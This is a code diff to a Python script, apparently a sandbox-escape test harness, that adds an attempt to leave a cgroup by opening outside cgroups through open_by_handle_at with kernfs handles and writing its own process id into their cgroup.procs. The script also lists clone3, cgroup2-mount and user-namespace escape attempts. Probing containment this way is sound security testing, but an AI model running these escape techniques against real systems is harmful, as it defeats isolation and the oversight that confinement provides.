@@ -17,6 +17,8 @@ Attempts:
              the same under /proc/*/root/
   clone3     clone3(CLONE_INTO_CGROUP) with every cgroup directory it can
              open; a child that is born makes its own connection, then exits
+  handle     open_by_handle_at(cgroup2 mount, kernfs handle of each
+             --cgroup-id), then write cgroup.procs through the fd it got
   mount      mount cgroup2 on a fresh directory, then try procs there
   userns     in a child: unshare(CLONE_NEWUSER|CLONE_NEWNS[|CLONE_NEWCGROUP]),
              mount cgroup2, try procs there
@@ -39,6 +41,7 @@ import alclient
 libc = ctypes.CDLL(None, use_errno=True)
 SYS_BPF = 321
 SYS_CLONE3 = 435
+SYS_OPEN_BY_HANDLE_AT = 304
 BPF_OBJ_GET = 7
 CLONE_INTO_CGROUP = 0x200000000
 CLONE_NEWNS = 0x00020000
@@ -199,6 +202,36 @@ class Escape:
         self.moved += res.get("moved", [])
         self.connects += res.get("connects", 0)
 
+    def handles(self):
+        """open_by_handle_at on the cgroup2 it sees, with the kernfs handle
+        (FILEID_KERNFS 0xfe, the cgroup id) of a cgroup outside it: needs
+        CAP_DAC_READ_SEARCH, or the handle must lie below the mount's root."""
+        for m in mounts("cgroup2"):
+            try:
+                mfd = os.open(m, os.O_RDONLY | os.O_DIRECTORY)
+            except OSError as e:
+                self.record("handle", m, alclient.errname(e))
+                continue
+            for cid in self.a.cgroup_id:
+                h = struct.pack("=Ii", 8, 0xFE) + struct.pack("=Q", cid)
+                buf = ctypes.create_string_buffer(h, len(h))
+                fd = libc.syscall(SYS_OPEN_BY_HANDLE_AT, mfd, buf, os.O_RDONLY | os.O_DIRECTORY)
+                if fd < 0:
+                    self.record("handle", "%s#%d" % (m, cid), alclient.errname(ctypes.get_errno()))
+                    continue
+                # An fd on a cgroup outside: try to move there through it.
+                try:
+                    pfd = os.open("cgroup.procs", os.O_WRONLY, dir_fd=fd)
+                    os.write(pfd, b"%d\n" % os.getpid())
+                    os.close(pfd)
+                    res = "written"
+                    self.moved.append("handle:%d" % cid)
+                except OSError as e:
+                    res = "opened-" + alclient.errname(e)
+                os.close(fd)
+                self.record("handle", "%s#%d" % (m, cid), res)
+            os.close(mfd)
+
     def pins(self):
         paths = list(self.a.pin)
         for m in mounts("bpf"):
@@ -234,10 +267,12 @@ def main():
     ap.add_argument("--cgroup", action="append", default=[])
     ap.add_argument("--scope", required=True)
     ap.add_argument("--pin", action="append", default=[])
+    ap.add_argument("--cgroup-id", action="append", default=[], type=int)
     a = ap.parse_args()
     e = Escape(a)
     e.procs()
     e.clone3()
+    e.handles()
     e.mount_cgroup2("mount")
     e.userns(CLONE_NEWUSER | CLONE_NEWNS, "userns")
     e.userns(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP, "userns-cgroupns")
